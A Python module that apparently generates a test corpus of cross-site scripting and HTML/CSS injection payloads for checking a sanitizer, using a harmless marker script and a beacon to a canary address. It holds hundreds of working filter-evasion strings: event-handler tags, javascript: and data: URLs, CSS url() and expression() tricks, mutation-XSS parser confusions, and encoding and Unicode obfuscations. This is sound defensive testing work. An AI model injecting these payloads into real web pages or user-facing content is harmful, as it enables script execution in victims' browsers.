"""Markup that runs a script or loads something where it is not only shown: row D7 of ``docs/threats.md``.

Each says ``window.__pwned=1`` and names an address below ``MARKER``, so that whoever shows it can see what it did.
Sources: the OWASP filter-evasion sheet, PortSwigger's and html5sec's lists, and the advisories of webmail programs.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator

MARKER = "https://canary.invalid/"

_EVENTS = """
img src=x onerror|img src=x: onerror|image src=x onerror|body onload|body onpageshow|body onhashchange|body onresize
svg onload|svg/onload|svg onbegin|iframe onload|iframe src=x onload|object data=x onerror|embed src=x onload
video src=x onerror|video autoplay onloadstart|audio src=x onerror|audio onloadstart|input autofocus onfocus
select autofocus onfocus|textarea autofocus onfocus|keygen autofocus onfocus|button autofocus onfocus
details open ontoggle|marquee onstart|marquee loop=1 onfinish|link rel=stylesheet href=x onerror|script src=x onerror
style onload|frameset onload|isindex onfocus|meter onmouseover|a onclick|a href=# onmouseover|p onmouseenter
div onpointerover|div onpointerenter|div onmousemove|div onwheel|div oncopy|div ontouchstart|div onscroll
div contenteditable autofocus onfocus|div tabindex=1 autofocus onfocusin|b onauxclick|table onload|td onmouseover
form onsubmit|form onreset|form onformdata|input type=image src=x onerror|input oninput|input oninvalid
p style=animation-name:x onanimationstart|p style=transition:1s ontransitionend|p onbeforeinput|p onbeforematch hidden
dialog open onclose|dialog open oncancel|div popover onbeforetoggle|source srcset=x onerror|track src=x onerror
object onload|bgsound src=x onload|applet onerror|layer onload|x onclick|x onfocus tabindex=1 id=x
math onload|math href=x onclick|slot onslotchange|canvas onclick|portal onload|fencedframe onload|menu onshow
body onbeforeunload|body onmessage|body onpopstate|body onscroll onfocus|html onmouseover
"""
_SCRIPTS = """
<script>JS</script>|<SCRIPT>JS</SCRIPT>|<scr<script>ipt>JS</scr</script>ipt>|<script src="URL"></script>
<script/x>JS</script>
<script src=//URLHOST>|<script type=module>import "URL"</script>
<script type=importmap>{"imports":{"a":"URL"}}</script>
<script>JS//|<<script>JS//<</script>|<script\n>JS</script\n>|<script\t>JS</script >|</script><script>JS</script>
</title><script>JS</script>|</textarea><script>JS</script>|</style><script>JS</script>|--><script>JS</script>
"><script>JS</script>|'><script>JS</script>|`><script>JS</script>|]]><script>JS</script>
</noscript><script>JS</script>
</iframe><script>JS</script>|</xmp><script>JS</script>|</template><script>JS</script>|<!--><script>JS</script>
<script async src="URL">|<script defer src="URL">|<script nomodule src="URL">|<svg><script>JS</script></svg>
<svg><script href="URL"/></svg>|<svg><script xlink:href="URL"></script></svg>|<math><script>JS</script></math>
<script>/*<script>*/JS</script>|<script for=window event=onload>JS</script>|<script language=vbscript>JS</script>
{{constructor.constructor('JS')()}}|${JS}|#{JS}|<%= JS %>|{%JS%}|[[JS]]|javascript:JS|';JS;'|";JS;"|\\";JS;//|`${JS}`
"""
_LOADED_BY = """
a href|a ping|a target=_top href|a target=_blank rel=opener href|area href|area ping|base href|base target=_top href
img src|img srcset|img lowsrc|img dynsrc|img longdesc|img style=display:none width=1 height=1 src|img usemap=#x src
image href|input type=image src|button formaction|input type=submit formaction|form action|form target=_top action
iframe src|frame src|object data|object classid|object codebase|embed src|embed type=image/svg+xml src|applet code
applet archive|audio src|video src|video poster|source src|source srcset|track src|body background|table background
td background|tr background|bgsound src|link rel=stylesheet href|link rel=preload as=image href|link rel=prefetch href
link rel=dns-prefetch href|link rel=preconnect href|link rel=prerender href|link rel=modulepreload href
link rel=icon href|link rel=import href|link rel=manifest href|link rel=alternate href|link rel=preload imagesrcset
blockquote cite|q cite|del cite|ins cite|head profile|html manifest|command icon|menuitem icon|portal src
svg><image href|svg><image xlink:href|svg><use href|svg><use xlink:href|svg><a href|svg><a xlink:href|svg><script href
svg><feImage href|svg><feImage xlink:href|svg><animate attributeName=href values|svg><set attributeName=href to
svg><foreignObject><img src|svg><style><img src|svg><pattern><image href|svg><linearGradient href|svg><textPath href
svg><tref xlink:href|svg><cursor xlink:href|svg><mpath href|svg><discard href|svg><handler xlink:href
math href|math><mtext xlink:href|math><mglyph src|math><maction xlink:href|math><annotation-xml encoding=text/html src
fencedframe src|meta http-equiv=refresh content="0;url=URL" data-x|meta property=og:image content|div itemid
"""
_SCHEMES = (
    "URL",
    "//URLHOST",
    "javascript:JS",
    " &#14; JaVaScRiPt:JS",
    "java&Tab;script&colon;JS",
    "&#x6a;avascript&#0000058JS",
    "data:text/html,<script>JS</script>",
    "vbscript:JS",
)
_STYLES = """
background:url(URL)|background:url('URL')|background-image:url(&quot;URL&quot;)|background:u\\rl(URL)
list-style:url(URL)
background:/**/url(URL)|background:\\75\\72\\6c(URL)|content:url(URL)|cursor:url(URL),auto|border-image:url(URL)
border-image-source:url(URL)|mask:url(URL)|-webkit-mask-image:url(URL)|filter:url(URL#f)|clip-path:url(URL#c)
shape-outside:url(URL)|background:image-set("URL" 1x)|background:-webkit-image-set(url(URL) 1x)|background:src("URL")
background:cross-fade(url(URL),url(URL))|background:image("URL")|offset-path:url(URL)|fill:url(URL#x)
marker:url(URL#m)
width:expression(JS)|width:exp/**/ression(JS)|xss:expr/*x*/ession(JS)|behavior:url(URL)|-moz-binding:url(URL#x)
-o-link:'javascript:JS';-o-link-source:current|background:url(javascript:JS)|background:url(data:image/svg+xml,JS)
--x:url(URL);background:var(--x)|position:fixed;inset:0;background:url(URL)|animation:x;background:url(URL)
src:url(URL)
"""
_SHEETS = """
@import url(URL);|@import "URL";|@import'URL'screen;|@\\69mport "URL";
@font-face{font-family:x;src:url(URL)}*{font-family:x}
*{background:url(URL)}|input[value^=a]{background:url(URL)}|a:visited{background:url(URL)}
body::after{content:url(URL)}
@namespace url(URL);|@charset "UTF-7";@import "URL";|@media all{*{cursor:url(URL)}}
@supports(display:block){*{background:url(URL)}}
*{behavior:url(URL)}|*{-moz-binding:url(URL#x)}|*{x:expression(JS)}|@document url(URL){*{background:url(URL)}}
@layer x{*{background:url(URL)}}|@container(width>0){*{background:url(URL)}}
@property --x{syntax:"<url>";initial-value:url(URL)}
@page{background:url(URL)}|<!--@import "URL";-->|{}*{background:url(URL)}|}*{background:url(URL)}
</style><img src=URL onerror=JS>
"""
_MUTATED = (
    """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=JS>"></style></h1>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>
<svg></p><style><a id="</style><img src=1 onerror=JS>">
<svg><p><style><g title="</style><img src=x onerror=JS>">
<noscript><p title="</noscript><img src=x onerror=JS>">
<noscript><style></noscript><img src=x onerror=JS></style>
<noembed><p title="</noembed><img src=x onerror=JS>">
<noframes><p title="</noframes><img src=x onerror=JS>">
<xmp><p title="</xmp><img src=x onerror=JS>">
<iframe><p title="</iframe><img src=x onerror=JS>">
<textarea><p title="</textarea><img src=x onerror=JS>">
<title><p title="</title><img src=x onerror=JS>">
<style><p title="</style><img src=x onerror=JS>">
<script><p title="</script><img src=x onerror=JS>">
<plaintext><img src=x onerror=JS>
<template><img src=x onerror=JS></template>
<template><s><template><s><img src=x onerror=JS>@shafigullin</s></template></s></template>
<template shadowrootmode=open><img src=x onerror=JS></template>
<select><style></select><img src=x onerror=JS></style>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=JS>
<option><style></option></select><b><img src=x onerror=JS></style></option>
<table><td background=URL><style></table><img src=x onerror=JS>
<p id="</p><img src=x onerror=JS>">
<a title="--><img src=x onerror=JS>">
<listing>&lt;img src=x onerror=JS&gt;</listing>
<img alt="<x" title="/><img src=x onerror=JS>">
<img src="x` `<script>JS</script>"` `>
<img src=x onerror=JS//
<<img src=x onerror=JS>
<img/src=x/onerror=JS>
<img\fsrc=x\fonerror=JS>
<img """
    '"'
    """"><script>JS</script>">
<a<img src=x onerror=JS>
<svg><desc><style><img src=x onerror=JS></style></desc></svg>
<svg><title><style><img src=x onerror=JS></style></title></svg>
<svg><foreignObject><math><mi><style><img src=x onerror=JS>
<svg><![CDATA[><img src=x onerror=JS>]]></svg>
<![CDATA[<img src=x onerror=JS>]]>
<!--<img src="--><img src=x onerror=JS//">
<!--[if gte IE 4]><script>JS</script><![endif]-->
<!--!><img src=x onerror=JS>
<!--><img src=x onerror=JS>-->
<!-- --!><img src=x onerror=JS>
<!--a--!--><img src=x onerror=JS>
<!-- <!-- --><img src=x onerror=JS> -->
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>JS</script></x>
<?xml-stylesheet href="URL"?><p>JS</p>
<!DOCTYPE x [<!ENTITY e SYSTEM "URL">]><p>&e;</p>
<!DOCTYPE html SYSTEM "URL" "JS">
<!ELEMENT x><img src=x onerror=JS>
<? foo="><script>JS</script>">
<! foo="><script>JS</script>">
</ foo="><script>JS</script>">
<% foo="><script>JS</script>">
<frameset><frame src="javascript:JS"></frameset>
<xml id=x><i><b>&lt;img src=x onerror=JS&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>
<b><frame></b><math><style><img src=x onerror=JS></style></math>
<caption><svg><style></caption><img src=x onerror=JS></style>
<annotation-xml encoding="text/html"><style><img src=x onerror=JS></style></annotation-xml>
<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=JS></style></annotation-xml></math>
<nobr><svg><b><style></nobr><img src=x onerror=JS>
<form id=x><input name=attributes><input name=parentNode><img src=x onerror=JS></form>
<form name=document><img name=body src=x onerror=JS></form>
<a id=x><a id=x name=y href="javascript:JS">clobber</a></a>
"""
)
_HOLDERS = """
<iframe srcdoc="&lt;script&gt;JS&lt;/script&gt;">|<iframe srcdoc="<img src=x onerror=JS>">
<iframe srcdoc='<script src=URL></script>'>
<iframe sandbox="allow-scripts allow-same-origin" srcdoc="&lt;script&gt;JS&lt;/script&gt;">
<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-
<object data="data:text/html;base64,B64"></object>|<embed src="data:image/svg+xml;base64,B64">
<img src="data:image/svg+xml;base64,B64">
<iframe src="data:text/html;base64,B64">|<a href="data:text/html;base64,B64">x</a>
<meta http-equiv=refresh content="0;javascript:JS">
<meta http-equiv="refresh" content="0; url=data:text/html;base64,B64">|<meta http-equiv=set-cookie content="a=URL;JS">
<meta http-equiv=link content="<URL>;rel=stylesheet">
<meta http-equiv=content-security-policy content="report-uri URL;JS">
<meta name=referrer content=unsafe-url><img src=URL onerror=JS>
<style>BODY{background:url(URL)}</style><p onclick=JS>x
+ADw-script+AD4-JS+ADw-/script+AD4-|+/v8-<script>JS</script>|\u00bcscript\u00beJS\u00bc/script\u00be
\uff1cscript\uff1eJS\uff1c/script\uff1e
<\u200bscript>JS</script>|<\u202escript>JS</script>|<img src=x o\u200bnerror=JS>|<im\u0261 src=x onerror=JS>
<\u0455cript>JS</\u0455cript>
&lt;script&gt;JS&lt;/script&gt;|&#60;script&#62;JS&#60;/script&#62;|&#x3C;img src=x onerror=JS&#x3E;
&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;
%3Cscript%3EJS%3C/script%3E|\\x3cscript\\x3eJS\\x3c/script\\x3e|\\u003cscript\\u003eJS\\u003c/script\\u003e
\u2028JS\u2029|\x1b]8;;URL\x07JS\x1b]8;;\x07
"""


def payloads() -> Iterator[str]:
    """All of them, each with a marker address of its own; always the same."""
    known = dict.fromkeys(_all())
    for number, text in enumerate(known):
        yield _filled(text, f"{MARKER}{number}")


def _filled(text: str, url: str) -> str:
    js = f"window.__pwned=1;(new/**/Image).src='{url}'"
    page = base64.b64encode(f"<script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>".encode()).decode()
    made = text.replace("URLHOST", f"{url}?window.__pwned=1".removeprefix("https://"))
    made = made.replace("JS", js).replace("URL", f"{url}?window.__pwned=1").replace("B64", page)
    # What is written in base64 carries the marks where they can be read, too.
    return made if "__pwned" in made and MARKER[:-1] in made.replace("//canary", "https://canary") else f"{made} {js}"


def _all() -> Iterator[str]:
    for piece in _split(_EVENTS):
        yield f"<{piece}=JS>"
        yield f'<{piece.upper()} = "JS" x>'
        yield f"<{piece}\0=JS>"
    yield from _split(_SCRIPTS)
    for piece in _split(_LOADED_BY):
        for scheme in _SCHEMES:
            yield f'<{piece}="{scheme}">x'
    for piece in _split(_STYLES):
        yield f'<p style="{piece}">x</p>'
    for piece in _split(_SHEETS):
        yield f"<style>{piece}</style>"
        yield f"<svg><style>{piece}</style></svg>"
    yield from _MUTATED.strip().splitlines()
    yield from _split(_HOLDERS)
    yield from _changed()


def _changed() -> Iterator[str]:
    """Three plain ones, spoilt in ways that some reader repairs."""
    ways: tuple[Callable[[str], str], ...] = (
        "\0".join,
        lambda text: text.replace("<", "<\0"),
        lambda text: text.replace("=", "\0="),
        lambda text: text.replace(" ", "/"),
        lambda text: text.replace(" ", "\x0c"),
        lambda text: text.replace(">", ""),
        lambda text: text.replace("<", "\ufeff<"),
        lambda text: f"\u202e{text}\u202c",
        lambda text: text.replace(" ", "\n"),
        lambda text: text.swapcase().replace("js", "JS"),
        lambda text: text.replace("<", "\xbc").replace(">", "\xbe"),
        lambda text: text.replace("r", "\u017f"),
        lambda text: f"\ud800{text}",
        lambda text: f"<b>{text}" * 3,
    )
    for text in ("<img src=x onerror=JS>", "<script src=URL></script>", "<svg onload=JS>"):
        for way in ways:
            yield way(text)


def _split(text: str) -> Iterator[str]:
    for line in text.strip("\n").split("\n"):
        yield from line.split("|")
